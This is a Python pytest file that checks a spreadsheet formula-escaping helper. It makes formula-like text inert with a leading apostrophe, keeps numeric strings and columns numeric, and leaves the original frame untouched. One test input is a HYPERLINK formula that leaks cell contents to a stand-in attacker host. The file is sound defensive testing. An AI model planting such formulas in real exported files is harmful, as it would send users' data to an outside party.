"""Formula escaping: text a spreadsheet would run is made inert, numbers stay numbers."""

from __future__ import annotations

import pandas as pd
import pytest

from migobs.spreadsheet import inert, inert_frame, inert_rows

pytestmark = pytest.mark.attack


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+1 555 0100",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+2", "1e-05", "-1E+3", "-inf", "NaN", "-.5", "42"])
def test_numbers_written_as_text_stay_numbers(value: str) -> None:
    assert inert(value) == value


@pytest.mark.parametrize("value", [-5, -0.25, None, True, "France", "a=b", " =1", ""])
def test_other_values_are_unchanged(value: object) -> None:
    assert inert(value) == value


def test_rows_escape_names_and_values() -> None:
    assert inert_rows([{"=x": "-y", "n": -1}]) == [{"'=x": "'-y", "n": -1}]


def test_frame_keeps_numeric_columns_numeric() -> None:
    frame = pd.DataFrame({"name": ["=cmd", "Chad"], "value": [-1.5, 2.0], "year": [2019, 2020]})
    safe = inert_frame(frame)
    assert safe["name"].tolist() == ["'=cmd", "Chad"]
    assert safe["value"].tolist() == [-1.5, 2.0] and safe["value"].dtype == "float64"
    assert safe["year"].dtype == "int64"
    assert frame["name"].tolist() == ["=cmd", "Chad"]  # the original is left alone
    assert safe.to_csv(index=False).splitlines() == [
        "name,value,year",
        "'=cmd,-1.5,2019",
        "Chad,2.0,2020",
    ]
